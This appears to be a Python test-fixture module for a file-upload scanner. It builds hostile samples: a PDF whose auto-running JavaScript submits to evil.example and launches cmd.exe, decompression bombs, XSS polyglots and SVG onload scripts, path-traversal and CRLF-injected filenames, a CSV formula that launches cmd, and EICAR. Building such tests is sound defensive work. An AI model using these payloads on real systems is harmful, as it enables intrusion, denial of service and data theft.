"""Files that somebody sends who means harm, or whose scanner is broken."""

import zipfile
import zlib
from io import BytesIO

import pikepdf

from openmso.office.documents.inspection import MAXIMUM_PAGES

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"app.alert('hello'); this.submitForm('https://evil.example')"


def pdf(pages: int = 1) -> bytes:
    return _saved(_blank(pages))


def pdf_with_script() -> bytes:
    """A PDF that runs a script when it is opened, on a page, and from a link."""
    made = _blank(1)
    act = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(SCRIPT))
    made.Root.OpenAction = made.make_indirect(act)
    made.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("go"), act]))
    )
    made.pages[0].obj.AA = pikepdf.Dictionary(O=act)
    made.pages[0].obj.Annots = pikepdf.Array(
        [
            made.make_indirect(
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot,
                    Subtype=pikepdf.Name.Link,
                    Rect=[0, 0, 100, 100],
                    A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")),
                )
            )
        ]
    )
    return _saved(made)


def pdf_with_a_file_inside() -> bytes:
    made = _blank(1)
    made.attachments["payload.exe"] = b"MZ" + b"\x90" * 200
    return _saved(made)


def pdf_bomb() -> bytes:
    """A page whose content unpacks to 200 MB."""
    made = _blank(1)
    stream = pikepdf.Stream(made, _deep_zlib(200))
    stream.Filter = pikepdf.Name.FlateDecode
    made.pages[0].obj.Contents = made.make_indirect(stream)
    return _saved(made, packed=False)


def zip_bomb() -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as folder:
        folder.writestr("a", b"\x00" * 20_000_000)
    return made.getvalue()


def pixel_flood() -> bytes:
    """A PNG of 67 bytes that says it is 60,000 pixels wide and high."""
    head = (60_000).to_bytes(4, "big") * 2 + b"\x08\x06\x00\x00\x00"
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        _chunk(kind, data)
        for kind, data in ((b"IHDR", head), (b"IDAT", zlib.compress(b"\x00")), (b"IEND", b""))
    )


def polyglot() -> bytes:
    """A page of HTML and a PDF at once."""
    return b"<script>alert(1)</script>\n" + pdf()


def _blank(pages: int) -> pikepdf.Pdf:
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page()
    return made


def _saved(made: pikepdf.Pdf, *, packed: bool = True) -> bytes:
    written = BytesIO()
    made.save(written, compress_streams=packed)
    made.close()
    return written.getvalue()


def _deep_zlib(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(b" " * 1_000_000) for _ in range(megabytes)) + packer.flush()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")


REFUSED: dict[str, bytes] = {
    "nothing.pdf": b"",
    "zip bomb.pdf": zip_bomb(),
    "drawing.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "drawing.png": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "page.pdf": b"<!doctype html><script>alert(1)</script>",
    "not one.pdf": b"%PDF-1.7\nthis is not a PDF",
    "half.pdf": pdf(3)[:200],
    "program.pdf": b"MZ" + b"\x90" * 500,
    "shell.txt": b"\x7fELF" + b"\x00" * 500,
    "rich text.txt": b"{\\rtf1\\ansi hello}",
    "long.pdf": pdf(MAXIMUM_PAGES + 1),
    "nul.txt": b"text\x00text",
    "archive.txt": b"\x1f\x8b\x08\x00" + b"\x00" * 100,
}
"""Each must get a sentence beside the field."""

NEUTRALISED: dict[str, bytes] = {
    "script.pdf": pdf_with_script(),
    "inside.pdf": pdf_with_a_file_inside(),
    "polyglot.pdf": polyglot(),
    "bomb.pdf": pdf_bomb(),
}
"""Each may be taken, but only without what makes it dangerous."""

INERT: dict[str, bytes] = {
    "eicar.txt": EICAR,
    "../../../etc/passwd": b"root:x:0:0",
    "C:\\windows\\win.ini": b"[fonts]",
    'quote".txt\r\nSet-Cookie: a=b': b"a note",
    "flood.png": pixel_flood(),
    "sheet.csv": b"=cmd|' /C calc'!A0",
}
"""Each may be taken as it is: it is stored under its hash and only ever handed out as a file."""
